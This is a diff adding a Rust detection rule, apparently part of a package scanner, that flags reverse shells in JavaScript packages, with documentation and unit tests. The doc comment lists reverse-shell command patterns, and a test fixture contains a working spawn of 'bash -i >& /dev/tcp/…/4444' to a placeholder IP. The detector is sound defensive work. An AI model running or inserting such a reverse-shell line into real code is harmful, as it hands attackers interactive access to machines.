@@ -1,0 +1,84 @@
+//! `code/reverse-shell`.
+
+use super::{chain, finding, locality, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// A reverse shell: an interactive shell wired to a network socket.
+    ///
+    /// ## What it detects
+    /// `bash -i >& /dev/tcp/HOST/PORT`, `nc -e`, `mkfifo` pipelines and similar command lines, including ones
+    /// assembled at run time (`[198, 51, 100, 23].join('.')` is folded), in a file that spawns processes or opens
+    /// sockets.
+    ///
+    /// ## Why it matters
+    /// A reverse shell gives an attacker interactive access to the installing machine or CI runner.
+    ///
+    /// ## Example
+    /// `spawn('/bin/bash', ['-c', 'bash -i >& /dev/tcp/' + h + '/' + p + ' 0>&1'], { detached: true })`
+    ///
+    /// ## Known false positives
+    /// Security tooling and CTF packages contain these strings as data; without a spawn or socket in the same file
+    /// the rule stays quiet.
+    pub static REVERSE_SHELL = { id: "code/reverse-shell", severity: Severity::Critical };
+}
+
+/// One finding per reverse-shell command in a spawning or networking file.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    per_signal(p, Kind::ReverseShell, |f, s| {
+        let loc = locality(
+            p,
+            f,
+            s,
+            &[Kind::Spawn, Kind::Network, Kind::LifecycleScript],
+        );
+        if loc < Locality::File {
+            return None;
+        }
+        let msg = format!("reverse shell: `{}`", s.detail);
+        Some(finding(
+            &REVERSE_SHELL,
+            REVERSE_SHELL.default_severity,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::Spawn, Kind::Endpoint]),
+        ))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive_folded() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "r.js",
+                "const { spawn } = require('child_process');\nconst h = [203, 0, 113, 5].join('.');\nspawn('/bin/sh', ['-c', 'bash -i >& /dev/tcp/' + h + '/4444 0>&1']);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/reverse-shell"),
+            vec![("r.js".to_string(), 3)]
+        );
+    }
+
+    #[test]
+    fn negative_string_only() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "d.js",
+                "module.exports = { example: 'bash -i is an interactive shell' };\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/reverse-shell").is_empty());
+    }
+}
